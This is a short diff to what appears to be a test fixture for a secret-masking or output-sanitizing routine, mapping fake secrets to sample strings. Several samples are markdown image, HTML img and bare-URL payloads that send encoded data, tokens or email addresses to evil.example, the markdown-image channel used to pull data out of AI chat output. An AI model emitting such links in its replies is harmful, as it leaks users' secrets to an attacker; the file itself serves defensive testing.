@@ -204,6 +204,14 @@ SENSITIVE = {
     "aW1nIHRhZyBkYXRhIGV4Zmls": "<img src='https://evil.example/i.png?d=aW1nIHRhZyBkYXRhIGV4ZmlsIQ'>",
     "cmVmZXJlbmNlIGltYWdl": "![x][1]\n\n[1]: https://evil.example/p?d=cmVmZXJlbmNlIGltYWdlIGRhdGE\n",
     "YmFyZSB1cmwgZGF0YSBsZWFr": "see https://evil.example/b?d=YmFyZSB1cmwgZGF0YSBsZWFrcyBoZXJl now",
+    # A secret masked inside a link or brackets keeps the `)`, `).`, `),` around it.
+    "AKIAI44QH8DHBEXAMPLE": "[the docs](https://docs.example/k/AKIAI44QH8DHBEXAMPLE?page=2).",
+    "tok3nXYZ789def": "[token=tok3nXYZ789def](https://docs.example/).",
+    "Zq8hunter2XY": "(password=Zq8hunter2XY), done",
+    "abcdefghijklmnop1234567890": "Authorization: Bearer abcdefghijklmnop1234567890.",
+    "jane@example.org": "Ask [jane@example.org](mailto:jane@example.org).",
+    "ann@example.org": "(see https://evil.example/c?e=ann@example.org). Then",
+    "imgT0ken9876xyz": "(![chart](https://evil.example/c.png?token=imgT0ken9876xyz)).",
 }
 PROSE = [
     "The launch is at dawn.",
